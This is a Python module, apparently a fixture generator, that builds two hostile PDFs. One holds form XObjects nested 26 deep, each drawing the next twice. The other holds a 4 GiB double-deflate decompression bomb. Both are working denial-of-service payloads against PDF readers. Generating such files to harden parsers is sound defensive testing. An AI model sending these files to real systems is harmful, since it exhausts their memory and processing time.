"""Small files that take a careless reader hours or gigabytes."""

from __future__ import annotations

import zlib


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    body, offsets = b"%PDF-1.7\n", list[int]()
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + trailer


def stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object."""
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (dictionary, len(data), data)


def nested_forms(depth: int = 26) -> bytes:
    """A PDF of one page whose form draws another one twice, and so on: two to the power of `depth` pieces of text."""
    first = 5
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /F %d 0 R >> >> >>"
        % first,
        stream(b"", b"/F Do"),
    ]
    font = b"/Font << /T << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    for number in range(depth):
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << %b /XObject << /F %d 0 R >> >>"
        objects.append(stream(form % (font, first + number + 1), b"/F Do /F Do"))
    last = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << %b >>" % font
    objects.append(stream(last, b"BT /T 9 Tf 10 10 Td (deep) Tj ET"))
    return pdf(objects)


def deflate_bomb(size: int = 4 * 1024**3) -> bytes:
    """A PDF of one page whose content is `size` bytes of white space, packed twice."""
    packer = zlib.compressobj(9)
    block = b" " * 1024 * 1024
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    same = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # after a full flush each block is packed alike
    once = first + same * (size // len(block) - 1)
    content = stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(once, 9))
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            content,
        ]
    )
